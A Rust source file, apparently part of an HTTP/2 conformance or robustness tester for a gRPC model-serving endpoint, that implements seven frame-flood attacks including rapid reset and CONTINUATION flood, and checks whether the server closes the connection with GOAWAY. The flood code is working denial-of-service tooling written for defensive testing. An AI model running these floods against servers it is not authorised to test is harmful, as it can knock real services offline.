//! Floods of frames over HTTP/2 that cost their sender little (RFC 9113, 10.5).

use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;

use super::attack::{Attack, Came};
use super::target::Target;
use super::wire::run;
use crate::frames::{
    CONTINUATION, DATA, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, call,
    call_block, frame, parse, preface,
};

const PATH: &str = "/seldon.protos.Model/Predict";

/// Frames that a flood has at most, and the time that it takes at most: a server that has not cut
/// it by then never does.
const FRAMES: u32 = 400_000;
const LONGEST: Duration = Duration::from_secs(20);

/// Frames between two looks at whether the server has cut the connection.
const BATCH: u32 = 200;

const RIGHT: &str = "the connection is closed, with GOAWAY";

pub(super) const ATTACKS: [Attack; 7] = [
    Attack {
        name: "SETTINGS flood",
        sent: "SETTINGS",
        right: RIGHT,
        run: |target| flood(target, |_| frame(SETTINGS, 0, 0, &[])),
        ..Attack::PLAIN
    },
    Attack {
        name: "PING flood",
        sent: "PING",
        right: RIGHT,
        run: |target| flood(target, |_| frame(PING, 0, 0, &[0; 8])),
        ..Attack::PLAIN
    },
    Attack {
        name: "PRIORITY flood",
        sent: "PRIORITY of streams that are not there",
        right: RIGHT,
        run: |target| {
            flood(target, |at| {
                frame(PRIORITY, 0, 2 * at + 1, &[0, 0, 0, 0, 1])
            })
        },
        ..Attack::PLAIN
    },
    Attack {
        name: "WINDOW_UPDATE flood",
        sent: "WINDOW_UPDATE of one byte",
        right: RIGHT,
        run: |target| flood(target, |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
        ..Attack::PLAIN
    },
    Attack {
        name: "rapid reset",
        sent: "HEADERS and RST_STREAM at once",
        right: RIGHT,
        run: |target| {
            flood(target, |at| {
                let stream = 2 * at + 1;
                let reset = frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]);
                [call(stream, PATH), reset].concat()
            })
        },
        ..Attack::PLAIN
    },
    Attack {
        name: "CONTINUATION flood",
        sent: "HEADERS without an end, CONTINUATION with a field of 100 bytes each",
        right: RIGHT,
        run: |target| {
            flood(target, |at| match at {
                0 => frame(HEADERS, 0, 1, &call_block(PATH)),
                _ => {
                    let field = crate::frames::block(&[("x", &"y".repeat(96))]);
                    frame(CONTINUATION, 0, 1, &field)
                }
            })
        },
        ..Attack::PLAIN
    },
    Attack {
        name: "empty DATA flood",
        sent: "DATA without a byte on a stream that stays open",
        right: RIGHT,
        run: |target| {
            flood(target, |at| match at {
                0 => call(1, PATH),
                _ => frame(DATA, 0, 1, &[]),
            })
        },
        ..Attack::PLAIN
    },
];

/// Sends frames until the server cuts the connection, and says how many those were.
fn flood(target: &Target, next: impl Fn(u32) -> Vec<u8>) -> anyhow::Result<Came> {
    run(async {
        let mut stream = TcpStream::connect(target.grpc).await?;
        stream.write_all(&preface()).await?;
        let since = Instant::now();
        let mut sent = 0;
        let mut received = Vec::new();
        let mut cut = false;
        while sent < FRAMES && since.elapsed() < LONGEST && !cut {
            let batch: Vec<u8> = (sent..sent + BATCH).flat_map(&next).collect();
            let write = tokio::time::timeout(Duration::from_secs(5), stream.write_all(&batch));
            // A server that no longer reads has not cut the connection, but bounded it.
            match write.await {
                Err(_) => break,
                Ok(Err(_)) => cut = true,
                Ok(Ok(())) => sent += BATCH,
            }
            cut |= take(&stream, &mut received);
        }
        // What it said last may still be under way.
        tokio::time::sleep(Duration::from_millis(300)).await;
        cut |= take(&stream, &mut received);
        let frames = parse(&received);
        let goaway = frames.iter().find(|(kind, ..)| *kind == GOAWAY);
        let code = goaway.and_then(|(_, _, _, payload)| payload.get(7).copied());
        let seconds = since.elapsed().as_secs_f64();
        let text = match (code, cut) {
            (Some(code), _) => format!("GOAWAY with code {code} after {sent} frames"),
            (None, true) => format!("closed without GOAWAY after {sent} frames"),
            (None, false) => format!("not cut in {sent} frames and {seconds:.0} s"),
        };
        Ok(Came {
            text,
            right: cut || code.is_some(),
        })
    })
}

/// Takes what has come; whether the connection has ended.
fn take(stream: &TcpStream, received: &mut Vec<u8>) -> bool {
    let mut piece = [0; 16 * 1024];
    loop {
        match stream.try_read(&mut piece) {
            Ok(0) => return true,
            Ok(count) => received.extend_from_slice(&piece[..count]),
            Err(error) => return error.kind() != std::io::ErrorKind::WouldBlock,
        }
    }
}
